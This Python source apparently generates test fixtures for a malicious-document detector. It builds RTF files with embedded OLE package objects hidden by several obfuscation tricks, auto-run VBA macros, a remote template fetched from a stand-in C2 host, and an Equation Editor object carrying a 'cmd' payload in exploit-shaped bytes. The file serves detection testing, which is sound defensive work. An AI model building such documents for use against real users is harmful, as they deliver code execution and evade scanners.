"""Objects in RTF (catalogue B45)."""

from __future__ import annotations

import struct

from office_maker import AUTO, HOST, OBJECT, URL, Cases, ole1, ole_vba, rtf, rtf_object
from ole_maker import compound


def objects() -> Cases:
    """The cases."""
    cases = Cases()
    cases.put("B45 package", "a.rtf", rtf_object(OBJECT), "executable office-package", host=False)
    spaced = " \r\n".join(OBJECT[at : at + 40] for at in range(0, len(OBJECT), 40))
    grouped = "{\\b}".join(OBJECT[at : at + 60] for at in range(0, len(OBJECT), 60))
    junk = "\\xyz12 ".join(OBJECT[at : at + 60] for at in range(0, len(OBJECT), 60))
    quoted = "\\'7f".join(OBJECT[at : at + 60] for at in range(0, len(OBJECT), 60))
    for title, digits in {
        "white space": spaced,
        "groups": grouped,
        "control words": junk,
        "escapes": quoted,
        "odd digit": "0" + OBJECT,
        "signs": OBJECT.replace("00", "0-_0"),
        "capitals": OBJECT.upper(),
    }.items():
        cases.put(f"B45 {title} among the digits", "a.rtf", rtf_object(digits), "executable", host=False)
    cut = len(OBJECT) // 2
    binary = bytes.fromhex(OBJECT[cut // 2 * 2 :])
    head = rf"{{\rtf1{{\object\objemb{{\*\objdata {OBJECT[: cut // 2 * 2]}\bin{len(binary)} "
    cases.put("B45 binary", "a.rtf", head.encode() + binary + b"}}}", "executable", host=False)
    cases.put(
        "B45 short header",
        "a.doc",
        rtf(rf"{{\object\objemb{{\*\objdata {OBJECT}}}}}", r"{\rt"),
        "executable",
        host=False,
    )
    cases.put("B45 header behind white space", "a.doc", "\r\n  " + rtf_object(OBJECT), "executable", host=False)
    cases.put("B45 no end", "a.rtf", rtf_object(OBJECT)[:-3], "executable", host=False)
    cases.put(
        "B45 deep groups",
        "a.rtf",
        rtf("{" * 200 + rf"{{\object\objupdate{{\*\objdata {OBJECT}}}}}" + "}" * 200),
        "executable",
        host=False,
    )
    cases.put(
        "B45 object in an object",
        "a.rtf",
        rtf_object(ole1(b"Word.Document.8", ole_vba(AUTO)).hex()),
        "office-auto-macro",
    )
    cases.put(
        "B45 link",
        "a.rtf",
        rtf_object(ole1(b"Word.Document.8", b"", URL.encode()).hex(), r"\objautlink\objupdate"),
        "office-remote-template",
    )
    cases.put(
        "B45 template",
        "a.rtf",
        rtf(r"{\*\template http:\'2f/c2.mal\u119?are.example/gate}"),
        "office-remote-template",
    )
    cases.put(
        "B45 class of pages",
        "a.rtf",
        rtf_object(ole1(b"htmlfile", URL.encode().ljust(40)).hex()),
        "office-risky-object",
        host=False,
    )
    equation = (
        struct.pack("<HLHLL12x", 28, 0x20000, 0xC0DE, 100, 0)
        + b"\x03\x01\x01\x03\x0a\x0a\x08\x5a\x5a"
        + f"cmd {URL}".encode().ljust(60, b"A")
        + b"\x12\x0c\x43\0\0"
    )
    cases.put(
        "B45 equation",
        "a.rtf",
        rtf_object(ole1(b"Equation.3", equation).hex()),
        "office-equation office-exploit",
        host=False,
    )
    cases.put(
        "B45 equation in a compound file",
        "a.rtf",
        rtf_object(
            ole1(b"x", compound({"Equation Native": equation}, {"": "0002CE02-0000-0000-C000-000000000046"})).hex()
        ),
        "office-equation office-exploit",
    )
    japanese = rf"\ansicpg932 \'8e\'91\'97\'bf http://{HOST}/gate"
    cases.put("B45 text", "a.rtf", rtf(japanese))
    return cases
